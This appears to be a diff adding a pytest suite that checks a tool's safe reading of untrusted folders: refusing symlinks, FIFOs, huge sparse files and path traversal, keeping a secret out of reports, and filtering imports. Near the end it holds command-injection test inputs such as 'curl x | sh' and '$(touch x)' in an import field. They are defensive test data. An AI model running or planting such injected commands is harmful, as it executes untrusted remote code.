@@ -1,0 +1,126 @@
+"""Files of a stranger's folder: what is opened, how much of it is read, and what of it reaches a printed command."""
+
+import json
+import os
+
+import pytest
+from report_runs import write_run
+
+from crius.__main__ import main
+from crius.config.toml_file import imports_of
+from crius.tools.report.history import read_run
+from crius.tools.report.runs import run_row
+from crius.untrusted import SMALL, names_below, object_below, open_below, read_below, records_below
+
+SECRET = "k3y-of-somebody"
+
+
+@pytest.fixture
+def place(tmp_path):
+    """A folder with a file, and others that are none, beside a secret."""
+    (tmp_path / "secret").write_text(SECRET)
+    folder = tmp_path / "folder"
+    (folder / "below").mkdir(parents=True)
+    (folder / "below/file").write_text('{"a": 1}')
+    (folder / "link").symlink_to(tmp_path / "secret")
+    (folder / "dangling").symlink_to(tmp_path / "nothing")
+    (folder / "linked").symlink_to(folder / "below")
+    (folder / "zero").symlink_to("/dev/zero")
+    os.mkfifo(folder / "fifo")
+    os.truncate(os.open(folder / "sparse", os.O_CREAT | os.O_WRONLY), 10**12)
+    return folder
+
+
+@pytest.mark.parametrize(
+    ("name", "why"),
+    [
+        ("link", "a link; cp -rL copies its target"),
+        ("dangling", "a link"),
+        ("zero", "a link"),
+        ("linked/file", "a link"),
+        ("fifo", "not a regular file"),
+        ("below", "not a regular file"),
+        ("nothing", "No such file"),
+        ("nothing/file", "No such file"),
+        ("sparse", "1,000,000,000,000 bytes, but at most"),
+    ],
+)
+def test_only_regular_files_below_a_folder_are_read(place, name, why):
+    with pytest.raises(OSError, match=why) as refused:
+        read_below(place, name)
+    assert refused.value.filename == f"{place}/{name}"
+    assert object_below(place, name) is None
+
+
+def test_a_file_is_read_and_a_folder_that_the_user_named_may_be_a_link(place, tmp_path):
+    (tmp_path / "mine").symlink_to(place)
+    assert read_below(tmp_path / "mine", "below/file") == b'{"a": 1}'
+    assert object_below(place, "below/file") == {"a": 1}
+    assert names_below(place, "below") == ["file"] and names_below(place, "nothing") == []
+    with pytest.raises(OSError, match="a link"):
+        names_below(place, "linked")
+    for name in ("../secret", "below/../../secret", "..", "."):
+        with pytest.raises(AssertionError):
+            open_below(place, name)
+
+
+def test_a_line_has_a_most_length_and_the_next_one_is_read(tmp_path):
+    lines = ['{"a": 1}', '{"a": "' + "x" * (2 * SMALL) + '"}', "[1]", '{"a": 2}', '{"a": ']
+    (tmp_path / "lines").write_text("\n".join(lines))
+    assert list(records_below(tmp_path, "lines")) == [{"a": 1}, None, None, {"a": 2}, {}]
+    assert list(records_below(tmp_path, "nothing")) == []
+    with pytest.raises(OSError, match="at most 10 are"):
+        list(records_below(tmp_path, "lines", 10))
+
+
+def test_an_incident_that_is_a_link_is_no_part_of_a_report(tmp_path, capsys):
+    run = write_run(tmp_path / "run", files={"incidents/step-1.txt": "seen", "incidents/step-2.json": {"a": 1}})
+    (tmp_path / "secret").write_text(SECRET)
+    (run / "incidents/step-3.txt").symlink_to(tmp_path / "secret")
+    left_out = "This file cannot be read: it is a link; cp -rL copies its target."
+    assert read_run(run).incidents == {"step-1.txt": "seen", "step-2.json": {"a": 1}, "step-3.txt": left_out}
+    assert main(["report", str(run)]) == 0
+    assert SECRET not in (run / "report.html").read_text()
+
+
+def test_a_report_is_not_written_where_a_link_of_its_folder_leads(tmp_path, capsys):
+    run = write_run(tmp_path / "run")
+    (run / "report.html").symlink_to(tmp_path / "elsewhere")
+    assert main(["report", str(run)]) == 2
+    assert "report.html is a link" in capsys.readouterr().err and not (tmp_path / "elsewhere").exists()
+
+
+@pytest.mark.parametrize("name", ["run.toml", "metrics.jsonl", "starts.jsonl"])
+def test_a_pipe_in_a_run_folder_is_not_waited_for(tmp_path, capsys, name):
+    run = write_run(tmp_path / "run")
+    (run / name).unlink()
+    os.mkfifo(run / name)
+    assert str(run_row(run).state) == "unreadable (it is not a regular file)"
+    assert main(["report", str(run)]) == 1
+    assert f"{name} cannot be read: it is not a regular file" in capsys.readouterr().err
+
+
+def test_columns_of_a_report_have_a_most_number(tmp_path):
+    run = write_run(tmp_path / "run")
+    lines = [
+        json.dumps({"step": step, "loss": 1.0, **dict.fromkeys(map(str, range(step * 500, step * 500 + 500)))})
+        for step in range(1, 25)
+    ]
+    (run / "metrics.jsonl").write_text("\n".join(lines) + "\n")
+    assert len(read_run(run).steps) == 1000
+
+
+@pytest.mark.parametrize(
+    ("lines", "want"),
+    [
+        ("# --import mine\n# --import my.own_2\n[model]\n", "--import mine --import my.own_2"),
+        ("# --import evil; curl x | sh\n", ""),
+        ("# --import $(touch x)\n", ""),
+        ("# --import mine --import\u00e4\n", ""),
+        ("# --import ../mine\n", ""),
+        ("[model]\n# --import late\n", ""),
+    ],
+)
+def test_only_names_of_modules_reach_a_printed_command(lines, want, tmp_path):
+    (tmp_path / "run.toml").write_text(lines)
+    assert imports_of(str(tmp_path / "run.toml")) == want
